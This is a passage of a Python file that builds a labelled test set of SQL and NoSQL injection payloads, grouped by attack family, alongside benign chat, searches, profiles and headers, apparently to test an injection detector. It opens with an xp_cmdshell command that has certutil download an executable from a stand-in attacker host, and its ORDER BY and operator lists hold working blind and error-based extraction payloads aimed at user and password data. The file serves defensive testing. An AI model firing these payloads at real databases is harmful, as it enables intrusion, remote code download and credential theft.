    "'; EXEC xp_cmdshell 'certutil -urlcache -f http://oob.attacker.example/a.exe C:\\Windows\\Temp\\a.exe'-- ",
    "1; CALL mysql.lambda_async('arn:aws:lambda:us-east-1:123456789012:function:x','{}')-- ",
]

# having/group-by/order-by probing: column counting, the sort / order parameter as a sink, HAVING error leaks
# (MySQL, MSSQL, PostgreSQL)
ORDER_BY = [
    "1 ORDER BY 1-- -",
    "1' ORDER BY 5-- -",
    "1' ORDER BY 100#",
    "name ASC, (SELECT 1 FROM (SELECT SLEEP(5))x)",
    "(CASE WHEN (1=1) THEN name ELSE email END)",
    "id,(select case when (substring(user(),1,1)='r') then 1 else 1*(select 1 union select 2) end)",
    "created_at DESC, IF(1=1,id,email)",
    "1' GROUP BY 1,2,3-- -",
    "' HAVING 1=1-- ",
    "' GROUP BY users.id HAVING 1=1-- ",
    "' GROUP BY users.id,users.username HAVING 1=1-- ",
    "1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)",
    "name,extractvalue(1,concat(0x7e,database()))",
    "id desc limit 1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1' ORDER BY SLEEP(5)-- -",
    "(SELECT 1 FROM pg_sleep(5))",
    "price,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
    "1 ORDER BY (SELECT 1/0)",
    "title' ORDER BY 1,2,3,4,5-- -",
    "1' GROUP BY password HAVING COUNT(*)>0-- -",
    "' HAVING 1=1 AND 'x'='x",
    "1 HAVING 1 LIKE 1",
    "asc,(select(sleep(3)))",
    "1 ORDER BY RAND(1=1)",
    "1 ORDER BY IF(1=1,1,(SELECT 1 UNION SELECT 2))",
    "id) ORDER BY 3-- -",
    "email,CAST(version() AS int)",
    "username ASC;SELECT pg_sleep(5)--",
]

# like/between/in operators: blind extraction with LIKE, BETWEEN, IN, REGEXP / RLIKE, SIMILAR TO, GLOB when `=`
# and `>` are filtered (MySQL, MSSQL, PostgreSQL, SQLite)
OPERATORS = [
    "' OR username LIKE '%'-- -",
    "%' AND 1=1 AND '%'='",
    "%' OR password LIKE 'a%' AND '1'='1",
    "1' AND user() LIKE 'root%'-- -",
    "' AND database() LIKE 'a%'-- -",
    "1 AND ASCII(SUBSTRING(user(),1,1)) BETWEEN 97 AND 122",
    "' AND (SELECT LENGTH(password) FROM users LIMIT 1) BETWEEN 1 AND 64-- -",
    "1' AND 1 BETWEEN 0 AND 2-- -",
    "1 OR 1 IN (1,2,3)",
    "' OR 'a' IN ('a')-- ",
    "1 AND 1 IN (SELECT 1)",
    "1' AND 'admin' IN (SELECT username FROM users)-- -",
    "1 AND version() LIKE '8%'",
    "' AND @@version LIKE '%Microsoft%'-- ",
    "1 AND SUBSTRING(@@version,1,1) NOT IN ('4','5')",
    "' OR email LIKE '%@company.com'-- -",
    "1' AND password_hash LIKE '$2y$%'-- -",
    "' AND (SELECT COUNT(*) FROM users WHERE role IN ('admin','owner'))>0-- ",
    "1' AND database() RLIKE '^a'-- -",
    "1' AND user() REGEXP '^r'-- -",
    "' OR 'x' SIMILAR TO 'x'-- ",
    "1' AND current_user ~ '^post'-- ",
    "' AND 1 NOT BETWEEN 2 AND 3-- ",
    "1 AND (SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 1) LIKE 'u%'",
    "foo%') OR ('x' LIKE 'x",
    "' OR name GLOB '*'-- ",
    "1' AND ORD(MID(database(),1,1)) BETWEEN 100 AND 120-- -",
    "2023-01-01' AND 2 IN (SELECT COUNT(*) FROM users)-- -",
]

FAMILIES: list[tuple[str, str, list[Any]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT_SEQ),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYSQL_COMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", STORED_PROC),
    ("sqli", "having-group-order-by-probing", ORDER_BY),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# `field[$op]=value` pairs: sent unquoted where they name the place
RAW_KV_SUBS = {"nosql-injection"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    real_cycle = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
                  "param-name", "xml", "multipart-field", "multipart-filename", "header:X-Forwarded-For", "path"]
    names = ["q", "email", "name", "sort", "redirect", "callback", "filter", "order", "search", "id"]
    upload = "GIF89a\x01\x00\x01\x00"
    raw_places = ("query", "form", "rs-query", "rs-form")
    raw_tail = True   # a raw query string keeps the list parameter
    one_line = ("cookie", "rs-cookie", "multipart-filename")
    path_forbids = "/"

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """A fixed `field[$op]=value` entry."""
        return fixed and sub in RAW_KV_SUBS and "=" in payload and "[$" in payload.split("=", 1)[0]


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (security team and support chat about reports, bios, searches, links
# to advisories and docs, profiles, uploads, ordinary headers)
CHAT = [
    "new HackerOne report came in overnight, someone claims SQL injection on the search page, triaging now",
    "the reporter's PoC just returns a 500, I can't reproduce any data leak, asking for more detail",
    "Bugcrowd triage marked it P3, duplicate of the one we fixed in March",
    "we pay out for SQLi only when there's a working proof, not for a stack trace",
    "the bounty for the union select issue was approved, 1500 USD, thanks everyone",
    "reminder: never paste real customer emails into the report thread",
    "can someone check if the sort parameter is still passed straight into ORDER BY? I think we whitelisted it",
    "yes, sort only accepts name, created_at and email now, anything else falls back to name",
    "the old reporting service built queries with string concatenation, it's retired since Q2",
    "we switched the audit export to parameterized queries, psycopg handles the quoting",
    "select the customers you want to notify, then click send",
    "drop me a line when the release is tagged",
    "the nightly job deletes expired sessions, no need to truncate the table by hand",
    "the migration adds a column to users and backfills it in batches of 1000",
    "Postgres 16 upgrade is scheduled for Saturday, expect 10 minutes of read-only mode",
    "MySQL slow query log shows the union of two big tables in the report view, adding an index",
    "information_schema queries are slow on that RDS instance, cache the column list",
    "I used pg_sleep in the staging test to simulate a slow database, removed it afterwards",
    "waitfor delay in the SQL Server test harness was making CI flaky, replaced with a mock",
    "sleep(5) in the retry loop is too long, lower it to 1 second",
    "the ORM escapes everything, the raw SQL in the admin report was the only gap",
    "bobby tables strikes again, the xkcd is pinned in #security",
    "Mongo's $regex filter on the name field needs an anchor or it scans the whole collection",
    "use $in with the list of ids instead of one query per id",
    "the $where operator is disabled on our Atlas cluster, use aggregation instead",
    "xp_cmdshell is disabled on every SQL Server we run, I double checked after the report",
    "the stored procedure for monthly invoices takes about 40 seconds",
    "order by created_at desc, then group by team, that's the dashboard query",
    "having count(*) > 1 finds the duplicate accounts, 17 of them",
    "the LIKE search with a leading % can't use the index, we moved to trigram",
    "between 9 and 5 on weekdays the support queue is staffed",
    "load_file is not granted to the app user, FILE privilege is revoked",
    "the hex dump of the upload shows it's a PNG, not a script",
    "someone typed 1=1 in the feedback form as a joke, no harm done",
    "the researcher retested after the fix and confirmed it's resolved",
    "we'll disclose the report publicly after 30 days, redacting the hostnames",
    "CVSS 8.6 for the blind SQLi in the legacy export, fix shipped in 4.12.3",
    "OWASP Top 10 training is mandatory for new engineers this quarter",
    "sqlmap run against staging found nothing, report attached",
    "the WAF logs show scanners hammering /wp-login.php, we don't even run WordPress",
    "prepared statements everywhere in the new API, code review checklist updated",
    "the password reset token is compared in constant time now",
    "admin login moved behind SSO, the old form is gone",
    "we rotate the database credentials every 90 days",
    "does anyone know why the CSV export doubles the quotes in names like O'Brien?",
    "O'Reilly and D'Angelo both fail in the old search, apostrophes weren't escaped",
    "the error page used to print the SQL statement, now it's a generic 500",
    "extractvalue and updatexml were in the report, the MySQL error text is no longer shown",
    "Oracle's UTL_HTTP is revoked from PUBLIC in our DBA baseline",
    "dblink extension isn't installed in production Postgres",
    "the nosql injection write-up from that conference is worth a read",
    "select all, copy, paste into the sheet, done",
    "I'll union the two mailing lists and drop the duplicates",
    "please don't drop the staging database again, it takes an hour to restore",
    "the char limit on bios is 160, the UI should count characters",
    "ascii art in the release notes broke the markdown renderer",
    "our CHANGELOG says: fixed SQL injection in the order filter (reported via HackerOne)",
    "where do we keep the security.txt? it should point at the bounty program",
    "meeting notes: triage backlog, SLA for critical is 24h, high is 7 days",
    "the report mentions the callback parameter, but that one is only ever a URL",
    "concat of first and last name happens in Python, not SQL",
    "substring search is case-insensitive now",
    "count distinct users by day for the growth chart",
    "the between filter on dates is inclusive on both ends",
    "we dumped the schema for the data team, no rows, just the DDL",
    "in-app search for 'select' returns the dropdown component docs",
    "TIL: SQLite supports GLOB as a case-sensitive LIKE",
    "MariaDB version comments look like /*!50000 ... */ in mysqldump output, don't panic",
    "the -- comment in the migration file explains the new column",
    "happy Friday, no deploys after 3pm",
]
SEARCHES = [
    "sql injection", "union", "select", "drop", "order by", "group by", "having", "sleep", "bobby tables",
    "o'brien", "O'Connor", "D'Souza", "like", "between", "in", "where", "admin", "password reset",
    "information security", "bug bounty", "hackerone", "bugcrowd", "waitfor", "benchmark", "char", "ascii",
    "hex", "concat", "mongo", "$regex", "null", "1:1 meeting", "true or false", "select all", "union street",
    "Drop Bear Café", "Order & Chaos", "Group By Consulting", "ana.silva@example.com", "2024-03-15",
    "ORD-10023", "Smith-Jones", "#security", "sleep study", "tables and chairs",
]
URLS = [
    "https://hackerone.com/reports/123456",
    "https://hackerone.com/acme?type=team",
    "https://bugcrowd.com/acme",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://cwe.mitre.org/data/definitions/89.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2023-34362",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://www.postgresql.org/docs/16/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://www.postgresql.org/docs/current/sql-select.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/regex/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://sqlite.org/lang_select.html",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/arpls/UTL_HTTP.html",
    "https://xkcd.com/327/",
    "https://portswigger.net/web-security/sql-injection",
    "https://github.com/sqlmapproject/sqlmap/wiki/Usage",
    "https://github.com/acme/api/security/advisories/GHSA-xxxx-yyyy-zzzz",
    "https://app.example.com/admin/users?sort=created_at&order=desc",
    "https://app.example.com/reports?from=2024-01-01&to=2024-03-31",
    "https://status.example.com/incidents/2024-05-02-database-latency",
    "https://www.example.com/blog/how-we-fixed-a-sql-injection",
]
PROSE = [
    "Summary: the researcher reported a time-based blind SQL injection in the legacy export endpoint.",
    "Impact: an attacker could read the users table, including password hashes.",
    "Remediation: the query now uses bound parameters; the sort column is validated against an allow-list.",
    "Timeline: reported 2 May, triaged 3 May, fixed 9 May, bounty paid 12 May, disclosed 10 June.",
    "Steps to reproduce were clear and the video helped a lot, thank you.",
    "Customer asked why their company name O'Neill & Sons shows as O\\'Neill in the invoice.",
    "Please select the plan that fits your team and confirm the order.",
    "Union members get a 10% discount on the annual plan.",
    "The sleep tracker integration is in beta; sync happens every 15 minutes.",
    "Drop-off point for returns is the front desk, between 9:00 and 17:00.",
    "Order #10023 was shipped on 15 March and delivered on 18 March.",
    "Group by region in the export if you want subtotals.",
    "Having trouble logging in? Reset your password from the sign-in page.",
    "Where is the invoice for March? I can't find it under Billing.",
    "Table 3 lists the character limits for each field.",
    "The admin panel shows the last 50 logins per user.",
    "Like last year, the offsite is in Lisbon.",
    "We found the bug while writing the migration; it was never exploitable in production.",
    "The advisory credits the reporter and lists the fixed versions 4.12.3 and 4.11.9.",
    "The CVE was assigned by GitHub as CNA; the severity is high.",
    "Hall of fame: thanks to everyone who reported issues through our bug bounty program this year.",
    "Out of scope: rate limiting, self-XSS, missing security headers without impact, and SPF records.",
    "In scope: app.example.com, api.example.com and the iOS and Android apps.",
    "Safe harbor applies to good-faith research that follows this policy.",
    "Do not run automated scanners such as sqlmap against production.",
    "Duplicates are resolved in favour of the first report received.",
    "The report was closed as informative: the error message revealed the database version only.",
    "The PostgreSQL error 'invalid input syntax for type integer' is now mapped to a 400.",
    "SQL Server 2019 CU22 was applied to the reporting replica.",
    "MongoDB 7.0 upgrade notes: the $where operator is deprecated for new code.",
    "Between the two options, the second one is cheaper.",
    "The char count includes spaces.",
    "Select your country, then your region.",
    "Please ignore the previous email; the order was cancelled by mistake.",
    "The stored procedure was replaced by a Python job in the worker.",
    "Information about your account is stored for 7 years as required by law.",
    "You can sort by name, date or size, ascending or descending.",
    "Quotes in titles like \"The Cat's Meow\" are now displayed correctly.",
    "1:1 support sessions are available every Thursday.",
    "The 2024-06-01 release fixes the CSV import of names with apostrophes.",
]
PROFILES = [
    ("Siobhán O'Sullivan", "14 Grafton Street, Dublin"),
    ("Conor O'Brien", "Unit 3, Harbour Road, Cork"),
    ("D'Arcy Thompson", "22 Union Street, Aberdeen"),
    ("Ana-María D'Souza", "Rua da União 45, Porto"),
    ("Jean-Luc L'Héritier", "8 rue de l'Église, Lyon"),
    ("Nia Jones", "Flat 2, 10 Drop Lane, Cardiff"),
    ("Kofi Mensah", "Select Court 5, Accra"),
    ("Priya Raman", "12 Between Towns Road, Oxford"),
    ("Tomasz Wójcik", "ul. Długa 1/3, Gdańsk"),
    ("Lucas Martín", "Calle del Orden 9, Madrid"),
    ("Emma Schmidt", "Hauptstraße 17, Berlin"),
    ("Yuki Tanaka", "2-3-1 Chiyoda, Tokyo"),
    ("Bobby Tables", "1 School Road, Springfield"),
    ("Grace Hopper", "Bug Street 1947, Arlington"),
    ("Mark O'Neil-Smith", "Apt 5B, 300 West 57th St, New York"),
    ("Fatima Al-Sayed", "Al Wasl Road, Dubai"),
    ("Ólafur Jónsson", "Laugavegur 22, Reykjavík"),
    ("Chloé N'Diaye", "Avenue Cheikh Anta Diop, Dakar"),
    ("Rui Group-Lopes", "Travessa do Grupo 2, Lisboa"),
    ("Sam Sleeper", "44 Order Street, Leeds"),
]
UPLOAD_NAMES = [
    "hackerone-report-123456.pdf", "sqli-poc-video.mp4", "triage notes.docx", "remediation-plan.pdf",
    "bounty-invoice-2024-05.pdf", "select-dropdown-screenshot.png", "union-street-lease.pdf",
    "order-10023-receipt.pdf", "group-by-report.xlsx", "schema-diagram.drawio.png", "O'Brien contract.pdf",
    "database-migration-2024.sql.txt", "mysql-slow-log-summary.csv", "pg_stat_statements.csv",
    "mongo-indexes.json", "security.txt", "advisory-GHSA-draft.md", "pentest-report-final (1).pdf",
    "sleep-schedule.xlsx", "drop-shipping-terms.pdf",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
                   " Mobile/15E148"),
    ("User-Agent", "HackerOne-Webhook/1.0"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "PostmanRuntime/7.37.3"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Go-http-client/2.0"),
    ("Referer", "https://hackerone.com/reports/123456"),
    ("Referer", "https://app.example.com/admin/users?sort=name&order=asc"),
    ("Referer", "https://www.google.com/search?q=mysql+order+by+multiple+columns"),
    ("Referer", "https://stackoverflow.com/questions/60174/how-can-i-prevent-sql-injection-in-php"),
    ("Referer", "https://docs.example.com/api/filtering#like-and-between"),
    ("X-Api-Version", "2024-05-01"),
    ("X-Request-Id", "3b1f2c9e-7d4a-4c1e-9f0b-2a6d8e5c4b13"),
    ("X-Forwarded-For", "198.51.100.23, 10.0.0.5"),
    ("Accept-Language", "en-IE,en;q=0.9,ga;q=0.7"),
    ("Cookie", "session=abc123; sort=created_at; order=desc"),
    ("Cookie", "session=abc123; last_search=union%20street; tz=Europe%2FDublin"),
    ("Cookie", "session=abc123; filter=role%3Aadmin; theme=light"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
